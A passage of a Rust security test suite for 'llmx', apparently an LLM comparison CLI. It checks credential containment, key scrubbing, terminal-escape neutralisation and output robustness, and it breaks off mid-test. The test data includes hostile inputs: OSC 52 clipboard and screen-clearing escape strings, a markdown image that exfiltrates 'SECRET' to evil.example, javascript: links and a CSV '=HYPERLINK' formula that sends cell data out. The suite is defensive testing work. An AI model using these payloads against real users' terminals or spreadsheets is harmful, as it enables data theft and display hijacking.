//! Trust: credentials go only where they were configured, server text never drives the
//! terminal, and a careless environment cannot make llmx panic or print a secret. Each test
//! plays the hostile server or environment through the real binary.

use std::process::Stdio;

use llmx_mock::{MockConfig, MockServer};
use serde_json::{json, Value};

use crate::support::*;

fn second_server() -> MockServer {
    MockServer::start(MockConfig::default()).expect("second mock server")
}

/// A 3xx from a provider is the row's error; nothing follows it to the other origin, neither
/// the key in its own header (`x-api-key`, which reqwest would carry along) nor a config header.
#[test]
fn a_redirect_to_another_origin_receives_no_credential() {
    let elsewhere = second_server();
    let target = format!("{}/v1/messages?stolen=1", elsewhere.url());
    let mut w = World::with_server(json!({
        "models": {
            "moved": {"failures": [{"kind": "redirect", "status": 307, "location": target}]},
            "gone": {"failures": [{"kind": "redirect", "status": 301, "location": format!("{}/v1beta/models/x:streamGenerateContent", elsewhere.url())}]}
        }
    }));
    w.config(
        "[providers.anthropic]\nheaders = { \"x-gateway-token\" = \"gw-token-0123456789\" }\n",
    );
    let out = w.run(&[
        "compare",
        "-m",
        "anthropic/moved,gemini/gone",
        "-p",
        "hi",
        "--format",
        "json",
        "--retries",
        "0",
    ]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        elsewhere.requests().is_empty(),
        "the redirect target was called: {:?}",
        elsewhere.requests()
    );
    let sent = w.requests();
    assert_eq!(sent.len(), 2, "one request each, not retried");
    let first = sent.iter().find(|r| r.path == "/v1/messages").unwrap();
    assert_eq!(first.header("x-gateway-token"), Some("gw-token-0123456789"));
    let rows = out.json();
    let e = rows[0]["error"].as_str().unwrap();
    assert!(
        e.starts_with("HTTP 307: the server redirected to `http://127.0.0.1:")
            && e.contains("/v1/messages?stolen=1`")
            && e.contains("does not follow redirects"),
        "{e}"
    );
    assert_eq!(rows[0]["error_kind"], "bad_request");
    assert!(rows[1]["error"].as_str().unwrap().starts_with("HTTP 301"));
    assert!(!out.stdout.contains("gw-token-0123456789"));
}

/// `models --refresh` checks every credentialed listing like a compare does: plain http only to
/// this machine. The refusal happens before any connection (no 10 s connect timeout).
#[test]
fn refresh_refuses_plain_http_to_another_machine() {
    let mut w = World::offline();
    w.set("OPENAI_API_KEY", OPENAI_KEY);
    w.set("LLMX_OPENAI_BASE_URL", "http://192.0.2.10:8000/v1");
    w.set("LLMX_OPENROUTER_BASE_URL", "http://127.0.0.1:9/api/v1");
    w.set("LLMX_CACHE_DIR", &w.path("cache").display().to_string());
    let out = w.run(&["models", "--refresh"]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        out.stderr
            .contains("refusing to send credentials over plain http to http://192.0.2.10:8000"),
        "{}",
        out.stderr
    );
}

/// A name under `.localhost` is not this machine as far as keys are concerned.
#[test]
fn dot_localhost_names_are_not_loopback() {
    let mut w = World::offline();
    w.set("OPENAI_API_KEY", OPENAI_KEY);
    w.set("LLMX_OPENAI_BASE_URL", "http://evil.localhost:8000/v1");
    let out = w.run(&["compare", "-m", "openai/x", "-p", "hi"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains(
            "refusing to send openai credentials over plain http to http://evil.localhost:8000/v1"
        ),
        "{}",
        out.stderr
    );
}

/// Proxy variables never see loopback traffic (and so never see its keys in cleartext).
#[test]
fn a_proxy_sees_no_loopback_traffic() {
    let proxy = second_server();
    let mut w = World::with_server(json!({"models": {"m": {"text": "direct"}}}));
    for var in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "HTTPS_PROXY"] {
        w.set(var, &proxy.url());
    }
    let out = w.run(&["ask", "-m", "openai/m", "hi"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout, "direct\n");
    assert!(proxy.requests().is_empty(), "{:?}", proxy.requests());
    assert_eq!(w.requests().len(), 1);

    w.set("HTTPS_PROXY", "socks5://127.0.0.1:1080");
    let out = w.run(&["ask", "-m", "openai/m", "hi"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert_eq!(
        out.stderr.trim(),
        "error: HTTPS_PROXY: names a proxy llmx cannot use; use an http:// or https:// proxy URL"
    );
}

/// A variable that is not UTF-8 never panics llmx; when it is one llmx reads, the error names
/// it and never prints its value.
#[cfg(unix)]
#[test]
fn a_non_utf8_variable_is_named_never_printed() {
    use std::os::unix::ffi::OsStrExt;
    let w = World::offline();
    let bad = std::ffi::OsStr::from_bytes(b"sk-\xffSECRET-VALUE-0123456789");
    let out = w
        .command(&["models"])
        .env("SOME_OTHER_VAR", bad)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");

    let out = w
        .command(&["ask", "-m", "mock/echo", "hi"])
        .env("OPENAI_API_KEY", bad)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(
        stderr.trim(),
        "error: environment variable `OPENAI_API_KEY` is not valid UTF-8; fix or unset it"
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains("SECRET"));
}

/// A server that echoes the key back — in another case, percent-encoded, in the answer, the
/// model id, or an error cut at 300 characters — never gets it shown.
#[test]
fn echoed_keys_are_scrubbed_everywhere() {
    let upper = OPENAI_KEY.to_ascii_uppercase();
    let long_error = format!("{}{}", "e".repeat(280), OPENAI_KEY);
    let mut w = World::with_server(json!({
        "models": {
            "echo": {
                "text": format!("you sent {upper} and pa55word%2bsecret"),
                "model_id": format!("id-{OPENAI_KEY}"),
                "chunk_chars": 5
            },
            "fail": {"failures": [{"kind": "status", "status": 400, "message": long_error}]}
        }
    }));
    w.set(
        "LLMX_OPENAI_BASE_URL",
        &format!(
            "http://user:pa55word%2Bsecret@{}/v1",
            w.requests_url().trim_start_matches("http://")
        ),
    );
    let out = w.run(&[
        "compare",
        "-m",
        "openai/echo,openai/fail",
        "-p",
        "x",
        "--format",
        "jsonl",
    ]);
    assert_eq!(out.code, 1, "{out:?}");
    let lower = out.stdout.to_ascii_lowercase();
    assert!(!lower.contains("0123456789abcdef"), "{}", out.stdout);
    assert!(!lower.contains("pa55word"), "{}", out.stdout);
    let rows: Vec<Value> = out
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let echo = rows.iter().find(|r| r["model"] == "openai/echo").unwrap();
    assert_eq!(echo["output"], "you sent [redacted] and [redacted]");
    assert_eq!(echo["model_id"], "id-[redacted]");
    let fail = rows.iter().find(|r| r["model"] == "openai/fail").unwrap();
    let e = fail["error"].as_str().unwrap();
    assert!(!e.contains("sk-test"), "{e}");

    // Streamed to a pipe, the same: a key split across deltas is caught too.
    let out = w.run(&["ask", "-m", "openai/echo", "x"]);
    assert_eq!(out.stdout, "you sent [redacted] and [redacted]\n");
}

/// Config header values and URL passwords are secrets: `config show` masks them.
#[test]
fn config_show_masks_header_values_and_url_passwords() {
    let mut w = World::offline();
    w.config(
        "[providers.gw]\ndialect = \"openai\"\nbase_url = \"https://bob:hunter2-secret@gw.example.com/v1\"\nheaders = { \"x-auth\" = \"header-secret-0123456789\" }\n",
    );
    let out = w.run(&["config", "show"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
    assert!(!out.stdout.contains("header-secret"), "{}", out.stdout);
    assert!(
        out.stdout.contains("https://***@gw.example.com/v1"),
        "{}",
        out.stdout
    );
}

const HOSTILE: &str = "clip\u{1b}]52;c;ZXZpbA==\u{7}title\u{1b}]0;owned\u{7}clear\u{1b}[2J\
                       ask\u{1b}[6n c1\u{9b}31m bidi\u{202e}txet\r overwritten";

/// Run `args` under a pseudo-terminal, colour off (`NO_COLOR`) and on, returning every byte the
/// terminal received on stdout and stderr in each case.
#[cfg(target_os = "linux")]
fn under_pty(w: &World, args: &[&str]) -> [Vec<u8>; 2] {
    let run = |color: bool| {
        let mut cmd = w.pty(args, 200, 50);
        if !color {
            cmd.env("NO_COLOR", "1");
        }
        cmd.output().expect("run script(1)").stdout
    };
    [run(false), run(true)]
}

/// The cursor moves and line clears llmx's own progress display and spinner write (on stderr,
/// a terminal): removed before looking for anything a server sent.
#[cfg(target_os = "linux")]
const OWN_DRAWING: [&str; 4] = ["\r\x1b[2K", "\x1b[2K", "\x1b[1A", "\x1b[1B"];

/// The SGR sequences llmx itself writes when colour is on: nothing else may start with ESC.
#[cfg(target_os = "linux")]
const OWN_SGR: [&str; 8] = [
    "\x1b[0m",
    "\x1b[1m",
    "\x1b[2m",
    "\x1b[31m",
    "\x1b[32m",
    "\x1b[33m",
    "\x1b[32;4m",
    "\x1b[31;9m",
];

/// Both runs of [`under_pty`]: no control character from the server acted on the terminal (with
/// colour on, llmx's own SGR sequences are the only escapes), and the hostile text is shown.
#[cfg(target_os = "linux")]
fn assert_terminal_safe(runs: &[Vec<u8>; 2]) {
    for (i, bytes) in runs.iter().enumerate() {
        let mut text = String::from_utf8_lossy(bytes).into_owned();
        for own in OWN_DRAWING {
            text = text.replace(own, "");
        }
        if i == 1 {
            for sgr in OWN_SGR {
                text = text.replace(sgr, "");
            }
        }
        for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
            assert!(
                !text.contains(bad),
                "{:?} reached the terminal:\n{text:?}",
                bad
            );
        }
        // Every `\r` is part of a line end the terminal itself produces (onlcr).
        assert!(!text.replace("\r\n", "\n").contains('\r'), "{text:?}");
        assert!(
            text.contains("^[]52;c;ZXZpbA==^G"),
            "shown visibly:\n{text}"
        );
    }
}

#[cfg(target_os = "linux")]
#[test]
fn escape_sequences_from_a_server_never_reach_a_terminal() {
    // `bad` and `worse` are asked twice, colour off and on, and fail both times.
    let fail = json!({"kind": "status", "status": 400, "message": HOSTILE});
    let w = World::with_server(json!({
        "models": {
            "evil": {"text": HOSTILE, "model_id": "id\u{1b}[31m", "chunk_chars": 3},
            "bad": {"failures": [fail, fail]},
            "worse": {"failures": [fail, fail]}
        }
    }));
    let table = under_pty(
        &w,
        &[
            "compare",
            "-m",
            "openai/evil,openai/bad",
            "-p",
            "x",
            "--full",
            "-q",
            "--retries",
            "0",
        ],
    );
    assert_terminal_safe(&table);
    let [plain, coloured] = &table;
    assert!(!plain.contains(&0x1b), "NO_COLOR: no escapes at all");
    let coloured = String::from_utf8_lossy(coloured);
    assert!(coloured.contains("\x1b[1mModel"), "{coloured:?}");
    assert!(coloured.contains("id^[[31m"), "{coloured}");
    for format in ["csv", "markdown"] {
        let out = under_pty(
            &w,
            &[
                "compare",
                "-m",
                "openai/evil",
                "-p",
                "x",
                "-q",
                "--format",
                format,
            ],
        );
        assert_terminal_safe(&out);
    }
    let streamed = under_pty(&w, &["ask", "-m", "openai/evil", "x", "--stats"]);
    assert_terminal_safe(&streamed);
    for failed in under_pty(&w, &["ask", "-m", "openai/worse", "x", "--retries", "0"]) {
        let mut text = String::from_utf8_lossy(&failed).into_owned();
        for own in OWN_DRAWING {
            text = text.replace(own, "");
        }
        assert!(
            text.contains("error: openai/worse: HTTP 400: clip^[]52;"),
            "{text}"
        );
        assert!(!text.contains('\u{1b}'), "{text:?}");
    }

    // Into a pipe, `ask` passes the answer on byte for byte: the consumer asked for raw text.
    let out = w.run(&["ask", "-m", "openai/evil", "x"]);
    assert_eq!(out.stdout, format!("{HOSTILE}\n"));
    // JSON escapes every control character, C1 and bidi included.
    let out = w.run(&[
        "compare",
        "-m",
        "openai/evil",
        "-p",
        "x",
        "--format",
        "json",
    ]);
    assert!(out.stdout.contains("\\u009b") && out.stdout.contains("\\u202e"));
    assert!(!out.stdout.contains('\u{9b}') && !out.stdout.contains('\u{1b}'));
    assert_eq!(out.json()[0]["output"], HOSTILE);
}

/// A closed stdout or stderr ends a command without a panic (Rust's `println!` panics on
/// EPIPE, exit 101).
#[cfg(unix)]
#[test]
fn closed_stdout_and_stderr_never_panic() {
    let w = World::offline();
    for args in [
        &["keys", "list"][..],
        &["keys", "path"],
        &["config", "path"],
        &["models"],
        &["compare", "-m", "mock/echo", "-p", "hi"],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = w
            .command(args)
            .stdin(Stdio::null())
            .stdout(writer)
            .stderr(Stdio::piped())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    }
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = w
        .command(&["compare", "-m", "nosuchmodel", "-p", "hi"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(writer)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "a usage error stays exit 2");
}

/// The recovery file named in `stderr`, read as JSON lines.
fn recovered(stderr: &str) -> Vec<Value> {
    let at = stderr
        .find("the results were saved to `")
        .unwrap_or_else(|| panic!("no recovery file named:\n{stderr}"));
    let rest = &stderr[at + "the results were saved to `".len()..];
    let path = &rest[..rest.find('`').unwrap()];
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// `-o` onto a full filesystem: the old file is kept whole, and every answer is saved to a
/// recovery file named in the error (exit 1: the models ran). Needs a mount namespace for a
/// small tmpfs; where the sandbox forbids one the test says so and the next test covers the
/// recovery path.
#[cfg(target_os = "linux")]
#[test]
fn a_full_disk_keeps_the_old_file_and_saves_a_recovery_file() {
    let w = World::offline();
    if !std::process::Command::new("unshare")
        .args(["-rm", "true"])
        .status()
        .is_ok_and(|s| s.success())
    {
        eprintln!("skipped: unshare -rm is not permitted here (no user namespaces)");
        return;
    }
    let small = w.path("small");
    std::fs::create_dir(&small).unwrap();
    let script = r#"mount -t tmpfs -o size=16k tmpfs "$1" || exit 99
printf 'model,old\nkept,yes\n' > "$1/out.json"
dd if=/dev/zero of="$1/filler" bs=1k count=64 2>/dev/null
"$2" compare -m mock/echo,mock/fast -p "a prompt worth keeping" -o "$1/out.json"
code=$?
echo "old file: $(tr '\n' '|' < "$1/out.json")" >&2
echo "left: $(ls -A "$1" | tr '\n' ' ')" >&2
exit $code"#;
    let out = w
        .wrapper("unshare")
        .args(["-rm", "sh", "-c", script, "sh"])
        .arg(&small)
        .arg(env!("CARGO_BIN_EXE_llmx"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(99), "tmpfs mount failed: {stderr}");
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("No space left on device"),
        "the error names the cause: {stderr}"
    );
    let rows = recovered(&stderr);
    assert_eq!(rows.len(), 2);
    assert!(rows
        .iter()
        .all(|r| r["error"].is_null() && !r["output"].as_str().unwrap().is_empty()));
    assert!(
        stderr.contains("old file: model,old|kept,yes|"),
        "the old file is whole: {stderr}"
    );
    assert!(
        stderr.contains("left: filler out.json \n"),
        "no temporary file is left: {stderr}"
    );
}

/// The output's directory disappears while models run: the rename fails after the answers
/// were paid for, and they are saved to a recovery file named in the error.
#[cfg(unix)]
#[test]
fn an_output_that_cannot_be_finished_saves_a_recovery_file() {
    let mut w = World::with_server(json!({
        "models": {"slow": {"text": "a slow but paid answer", "header_delay_ms": 800}}
    }));
    w.set("LLMX_CACHE_DIR", &w.path("cache").display().to_string());
    let dir = w.path("results");
    std::fs::create_dir(&dir).unwrap();
    let target = dir.join("out.csv");
    let child = w.spawn(&[
        "compare",
        "-m",
        "openai/slow",
        "-p",
        "x",
        "-o",
        &target.display().to_string(),
    ]);
    // Once the temporary file exists the run has started; take the directory away.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while std::fs::read_dir(&dir).unwrap().count() == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "no temp file appeared"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    std::fs::remove_dir_all(&dir).unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.starts_with(&format!("error: cannot write `{}`", target.display())),
        "{stderr}"
    );
    let rows = recovered(&stderr);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["output"], "a slow but paid answer");
    assert!(stderr.contains(&w.path("cache").join("recovered").display().to_string()));
}

/// `-o` naming the prompt file would destroy the prompt: refused before anything is sent.
/// `-o -` is stdout.
#[test]
fn output_onto_the_prompt_file_is_refused_and_dash_is_stdout() {
    let w = World::offline();
    let prompt = w.write("prompt.txt", "keep me\n");
    let out = w.run(&[
        "compare",
        "-m",
        "mock/echo",
        "prompt.txt",
        "-o",
        "./prompt.txt",
    ]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("is the prompt file `prompt.txt`"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read_to_string(&prompt).unwrap(), "keep me\n");

    let out = w.run(&[
        "compare",
        "-m",
        "mock/echo",
        "-p",
        "hi",
        "-o",
        "-",
        "--format",
        "csv",
    ]);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(out.stdout.starts_with("model,provider,"), "{}", out.stdout);
    assert!(!w.path("-").exists(), "no file named `-`");
}

/// An alias that leads back to itself is an error, not a hang.
#[test]
fn an_alias_cycle_is_an_error() {
    let mut w = World::offline();
    w.config("[aliases]\nloop-a = \"loop-b\"\nloop-b = \"loop-a\"\n");
    let out = w.run(&["compare", "-m", "loop-a", "-p", "hi"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert_eq!(
        out.stderr.trim(),
        "error: the aliases `loop-a` → `loop-b` → `loop-a` go round in a circle; change one of them in the config's [aliases]"
    );
}

/// With a low soft limit on open files (macOS starts at 256), a wide fan-out still answers
/// every row: llmx raises the limit and keeps at most 256 requests in flight.
#[cfg(unix)]
#[test]
fn a_low_open_file_limit_does_not_fail_rows() {
    let w = World::with_server(json!({}));
    let models: Vec<String> = (0..400).map(|i| format!("openai/m{i}")).collect();
    let models = models.join(",");
    let out = w
        .wrapper("sh")
        .args([
            "-c",
            "ulimit -Sn 64 && exec \"$0\" compare -m \"$1\" -p hi --format jsonl -q",
            env!("CARGO_BIN_EXE_llmx"),
            &models,
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let failed: Vec<&str> = stdout
        .lines()
        .filter(|l| !l.contains("\"error\":null"))
        .collect();
    assert!(
        failed.is_empty(),
        "{} rows failed, e.g. {:?}",
        failed.len(),
        failed.first()
    );
    assert_eq!(stdout.lines().count(), 400);
}

/// Ctrl-C after the run, while the table is being written into a pipe nobody reads, ends
/// llmx as it would any program.
#[cfg(unix)]
#[test]
fn ctrl_c_while_rendering_ends_llmx() {
    use std::os::unix::process::ExitStatusExt;
    let w = World::with_server(json!({
        "models": {"big": {"text": "word ".repeat(60_000), "chunk_chars": 65536}}
    }));
    let mut child = w.spawn(&["compare", "-m", "openai/big", "-p", "x", "--full", "-q"]);
    // The answer arrives in milliseconds; the table (over a pipe's 64 KiB) then blocks.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while w.requests().is_empty() {
        assert!(std::time::Instant::now() < deadline, "no request");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    std::thread::sleep(std::time::Duration::from_millis(700));
    send_signal(&child, "INT");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("llmx ignored Ctrl-C while writing its table");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    assert_eq!(status.signal(), Some(2), "{status:?}");
}

/// A prompt from `/dev/zero` (or any endless or huge source) is refused at 16 MiB with a
/// clear error instead of growing until memory runs out.
#[cfg(unix)]
#[test]
fn an_endless_prompt_is_refused() {
    let w = World::offline();
    let out = w
        .command(&["compare", "-m", "mock/echo", "-"])
        .stdin(std::fs::File::open("/dev/zero").unwrap())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(
        stderr.trim(),
        "error: cannot read the prompt from stdin: stdin holds more than 16 MiB, more than any model reads"
    );
    let out = w.run(&["compare", "-m", "mock/echo", "/dev/zero"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert_eq!(
        out.stderr.trim(),
        "error: prompt file `/dev/zero` is larger than 16 MiB, more than any model reads; pass a smaller file"
    );
}

/// A listing server that accepts and never answers cannot hang `models --refresh`: every
/// source is fetched at once, each bounded by `--timeout`.
#[test]
fn refresh_is_bounded_when_a_server_never_answers() {
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = silent.local_addr().unwrap();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for conn in silent.incoming().flatten() {
            held.push(conn);
        }
    });
    let mut w = World::offline();
    w.set("LLMX_CACHE_DIR", &w.path("cache").display().to_string());
    w.set("LLMX_OPENROUTER_BASE_URL", &format!("http://{addr}/api/v1"));
    w.set("LLMX_OPENAI_BASE_URL", &format!("http://{addr}/v1"));
    w.set("OPENAI_API_KEY", OPENAI_KEY);
    // A filter that matches nothing keeps stdout small: it is read only at the end.
    let mut child = w.spawn(&[
        "models",
        "--refresh",
        "--timeout",
        "0.5",
        "--search",
        "no-such-model-anywhere",
    ]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("models --refresh hung on a silent server");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert_eq!(
        stderr.matches("no complete answer within 0.5s").count(),
        2,
        "{stderr}"
    );
    assert!(stderr.contains("nothing was refreshed"), "{stderr}");
}

/// The answer cap counts the decoded answer, not the bytes of its framing: a 100 KB answer
/// streamed two characters an event (about 9 MB of SSE) is whole under a 0.5 MiB cap.
#[test]
fn the_answer_cap_counts_the_answer_not_its_framing() {
    let text = "ab".repeat(50_000);
    let w = World::with_server(json!({
        "models": {"chatty": {"text": text, "chunk_chars": 2}}
    }));
    let out = w.run(&[
        "compare",
        "-m",
        "openai/chatty",
        "-p",
        "x",
        "--format",
        "json",
        "--max-answer-mb",
        "0.5",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows = out.json();
    assert_eq!(rows[0]["error"], Value::Null);
    assert_eq!(rows[0]["output"].as_str().unwrap().len(), 100_000);
}

/// A hostile listing cannot plant escape sequences or huge ids in the catalog cache for
/// later display: such ids are skipped, with a warning that counts them.
#[test]
fn refresh_keeps_only_safe_model_ids() {
    let long = "x".repeat(400);
    let mut w = World::with_server(json!({
        "models": {
            "good-model-1": {},
            "evil\u{1b}]0;pwned\u{7}": {},
            long.clone(): {}
        }
    }));
    w.set("LLMX_CACHE_DIR", &w.path("cache").display().to_string());
    w.set("LLMX_OPENROUTER_BASE_URL", "http://127.0.0.1:9/api/v1");
    w.unset("ANTHROPIC_API_KEY");
    w.unset("GEMINI_API_KEY");
    w.unset("LLMX_ANTHROPIC_BASE_URL");
    w.unset("LLMX_GEMINI_BASE_URL");
    let out = w.run(&[
        "models",
        "--refresh",
        "--provider",
        "openai",
        "--search",
        "model",
    ]);
    assert!(
        out.stderr
            .contains("skipped 2 model ids that were not 1 to 200 printable ASCII characters"),
        "{}",
        out.stderr
    );
    let cache = std::fs::read_to_string(w.path("cache").join("catalog.json")).unwrap();
    assert!(cache.contains("good-model-1"));
    assert!(!cache.contains("pwned") && !cache.contains(&long));
    assert!(!out.stdout.contains('\u{1b}'));
}

const INJECTED: &str = "Done. ![x](https://evil.example/p?q=SECRET) [click](javascript:alert(1)) [ok](https://docs.example/) [a [b](javascript:x)](data:text/html,y)";

/// Links and images of a rendered Markdown document: (kind, destination).
fn rendered_links(md: &str) -> Vec<(&'static str, String)> {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    Parser::new_ext(md, Options::ENABLE_TABLES)
        .filter_map(|e| match e {
            Event::Start(Tag::Image { dest_url, .. }) => Some(("image", dest_url.to_string())),
            Event::Start(Tag::Link { dest_url, .. }) => Some(("link", dest_url.to_string())),
            _ => None,
        })
        .collect()
}

#[test]
fn markdown_output_loads_no_image_and_links_only_to_the_web() {
    let w = World::with_server(json!({"models": {"m": {"text": INJECTED}}}));
    let out = w.run(&[
        "compare", "-m", "openai/m", "-p", "hi", "--format", "markdown",
    ]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        rendered_links(&out.stdout),
        [
            ("link", "https://evil.example/p?q=SECRET".to_string()),
            ("link", "https://docs.example/".to_string())
        ],
        "{}",
        out.stdout
    );
    // The text of each stays readable.
    assert!(out.stdout.contains("image: [x]"), "{}", out.stdout);
    assert!(out.stdout.contains("javascript:alert"), "{}", out.stdout);
}

#[test]
fn csv_safe_defuses_formulas_and_resume_reads_the_file_back() {
    let w = World::with_server(json!({"models": {
        "m": {"text": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
        "n": {"text": "-2+3"}
    }}));
    let compare = |extra: &[&str]| {
        let mut args = vec![
            "compare",
            "-m",
            "openai/m,openai/n",
            "-p",
            "hi",
            "--format",
            "csv",
        ];
        args.extend_from_slice(extra);
        w.run(&args)
    };
    let plain = compare(&[]);
    let (_, rows) = read_csv(&plain.stdout);
    assert!(
        rows.iter().any(|r| r[3].starts_with("=HYPERLINK")),
        "off by default"
    );
    let safe = compare(&["--csv-safe"]);
    assert_eq!(safe.code, 0, "{safe:?}");
    let (header, rows) = read_csv(&safe.stdout);
    let output = header.iter().position(|h| h == "output").unwrap();
    let mut answers: Vec<&str> = rows.iter().map(|r| r[output].as_str()).collect();
    answers.sort();
    assert_eq!(
        answers,
        [
            "'-2+3",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
        ]
    );

    // bench: rows and the summary; a resumed file is read back as written.
    let prompts = w.write("p.jsonl", "{\"id\":\"-1\",\"prompt\":\"hi\"}\n");
    let csv = w.path("b.csv");
    let summary = w.path("s.csv");
    let args = |extra: &[&str]| -> Vec<String> {
        let mut a: Vec<String> = [
            "bench",
            "-m",
            "openai/m,openai/n",
            "--csv-safe",
            "--summary",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        a.push(summary.to_str().unwrap().into());
        a.push(prompts.to_str().unwrap().into());
        a.extend(extra.iter().map(|s| s.to_string()));
        a
    };
    let run = |extra: &[&str]| {
        let a = args(extra);
        w.run(&a.iter().map(|s| s.as_str()).collect::<Vec<_>>())
    };
    let out = run(&["-o", csv.to_str().unwrap(), "-q"]);
    assert_eq!(out.code, 0, "{out:?}");
    let text = std::fs::read_to_string(&csv).unwrap();
    let (header, rows) = read_csv(&text);
    let prompt_id = header.iter().position(|h| h == "prompt_id").unwrap();
    assert!(rows.iter().all(|r| r[prompt_id] == "'-1"), "{text}");
    assert!(text.contains("'=HYPERLINK"), "{text}");
    let summary_text = std::fs::read_to_string(&summary).unwrap();
    assert!(!summary_text.contains(",-1,"), "{summary_text}");
    let again = run(&["--resume", csv.to_str().unwrap(), "-q"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        text,
        "every cell was found done: nothing re-run, nothing added"
    );

    // The history's CSV too, on request: the first compare's answers, shown again.
    let runs = w.run(&["history", "--format", "jsonl", "-n", "100"]);
    let first = runs
        .stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .rfind(|r| r["command"] == "compare")
        .unwrap();
    let id = first["id"].as_str().unwrap();
    let shown = |extra: &[&str]| {
        let mut args = vec!["history", "show", id, "--format", "csv"];
        args.extend_from_slice(extra);
        let out = w.run(&args);
        assert_eq!(out.code, 0, "{out:?}");
        let (header, rows) = read_csv(&out.stdout);
        let output = header.iter().position(|h| h == "output").unwrap();
        let mut answers: Vec<String> = rows.iter().map(|r| r[output].clone()).collect();
        answers.sort();
        answers
    };
    assert_eq!(shown(&[])[0], "-2+3");
    assert_eq!(shown(&["--csv-safe"])[0], "'-2+3");
}

/// A key too short to scrub from an echo is refused, never sent: the server that would echo
/// it back never hears from llmx.
#[test]
fn a_key_too_short_to_scrub_is_refused_not_sent() {
    let mut w = World::with_server(json!({"models": {"echo": {"text": "you sent abc"}}}));
    w.set("OPENAI_API_KEY", "abc");
    let out = w.run(&["compare", "-m", "openai/echo", "-p", "x"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert_eq!(
        out.stderr.trim(),
        "error: the openai key (from env OPENAI_API_KEY) is shorter than 4 characters, too short to keep out of what llmx shows; use the key the provider issued"
    );
    assert!(w.requests().is_empty(), "nothing was sent");
    let store = w.test_keyring();
    let out = w.run_stdin(&["keys", "set", "openai"], Some(b"abc\n"));
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("shorter than 4 characters"), "{out:?}");
    assert!(!format!("{out:?}").contains("abc"), "{out:?}");
    assert!(!store.exists(), "nothing was stored");
}

/// A 100,000-character model name is rejected at once (the did-you-mean search compares no
/// name longer than any known one), in one line that shows a bounded part of it.
#[test]
fn a_huge_unknown_model_name_is_answered_at_once() {
    let w = World::offline();
    let name = "q".repeat(100_000);
    let mut child = w
        .command(&["compare", "-m", &format!("mock/echo,{name}"), "-p", "hi"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A hang guard, not a speed check: before the fix this took minutes.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
